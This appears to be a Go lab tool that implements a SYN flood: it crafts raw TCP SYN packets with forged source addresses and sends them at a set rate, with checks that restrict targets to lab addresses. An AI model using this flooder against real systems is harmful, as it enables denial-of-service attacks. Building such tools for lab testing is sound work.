package labtools

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"time"

	"golang.org/x/sys/unix"
)

// SYNFloodMax bounds SYNFlood's packet count.
const SYNFloodMax = 200000

// SYNFloodResult is what SYNFlood sent.
type SYNFloodResult struct {
	Sent    int `json:"sent"`
	Sources int `json:"sources"` // distinct forged source addresses
}

// SYNFlood sends count TCP SYNs to target from forged sources: addresses of
// from other than the lab's external server, random source ports. It is
// the lab's attacker: it refuses targets outside targets (the lab's nodes and
// pods: labplan.Plan.FloodTargets, never the machine's own lab address) and
// sources outside the lab's external range (203.0.113.0/24), and stops by itself
// after count packets, sent at about rate packets a second (0: as fast as it can).
// It needs a raw socket (CAP_NET_RAW) and runs in the external host's netns.
func SYNFlood(target netip.AddrPort, from netip.Prefix, count, rate int, targets []netip.Prefix) (SYNFloodResult, error) {
	var res SYNFloodResult
	external := netip.MustParsePrefix("203.0.113.0/24")
	if !slices.ContainsFunc(targets, func(p netip.Prefix) bool { return p.Contains(target.Addr()) }) {
		return res, fmt.Errorf("syn-flood to %v: only the lab's node and pod addresses (%v) may be flooded", target, targets)
	}
	if !from.Addr().Is4() || from.Bits() < external.Bits() || !external.Contains(from.Addr()) || from.Bits() > 30 {
		return res, fmt.Errorf("syn-flood from %v: sources must be a /24 to /30 inside the lab's external range %v", from, external)
	}
	if count < 1 || count > SYNFloodMax {
		return res, fmt.Errorf("syn-flood count %d: must be between 1 and %d", count, SYNFloodMax)
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	if err != nil {
		return res, fmt.Errorf("open raw socket: %w", err)
	}
	defer unix.Close(fd)
	server := netip.MustParseAddr("203.0.113.10")
	hosts := uint32(1) << (32 - from.Bits())
	base := binary.BigEndian.Uint32(from.Masked().Addr().AsSlice())
	dst := &unix.SockaddrInet4{Addr: target.Addr().As4()}
	seen := map[netip.Addr]bool{}
	start := time.Now()
	for res.Sent < count {
		if rate > 0 && res.Sent%100 == 0 {
			time.Sleep(time.Until(start.Add(time.Duration(res.Sent) * time.Second / time.Duration(rate))))
		}
		src := netip.AddrFrom4(be4(base + 1 + rand.Uint32N(hosts-2))) // not the network or broadcast address
		if src == server {
			continue
		}
		pkt := synPacket(src, target, uint16(1024+rand.IntN(64511)), rand.Uint32())
		if err := unix.Sendto(fd, pkt, 0, dst); err != nil {
			return res, fmt.Errorf("send SYN %d: %w", res.Sent+1, err)
		}
		res.Sent++
		seen[src] = true
	}
	res.Sources = len(seen)
	return res, nil
}

func be4(v uint32) [4]byte {
	var b [4]byte
	binary.BigEndian.PutUint32(b[:], v)
	return b
}

// synPacket is an IPv4 TCP SYN from src:sport to dst (IP_HDRINCL: the
// kernel fills in the IPv4 checksum and id).
func synPacket(src netip.Addr, dst netip.AddrPort, sport uint16, seq uint32) []byte {
	p := make([]byte, 40)
	p[0], p[8], p[9] = 0x45, 64, unix.IPPROTO_TCP
	binary.BigEndian.PutUint16(p[2:], 40)
	s, d := src.As4(), dst.Addr().As4()
	copy(p[12:], s[:])
	copy(p[16:], d[:])
	t := p[20:]
	binary.BigEndian.PutUint16(t[0:], sport)
	binary.BigEndian.PutUint16(t[2:], dst.Port())
	binary.BigEndian.PutUint32(t[4:], seq)
	t[12], t[13] = 5<<4, 0x02
	binary.BigEndian.PutUint16(t[14:], 64240)
	sum := uint32(binary.BigEndian.Uint16(s[:2])) + uint32(binary.BigEndian.Uint16(s[2:])) +
		uint32(binary.BigEndian.Uint16(d[:2])) + uint32(binary.BigEndian.Uint16(d[2:])) + unix.IPPROTO_TCP + 20
	for i := 0; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(t[i:]))
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(t[16:], ^uint16(sum))
	return p
}
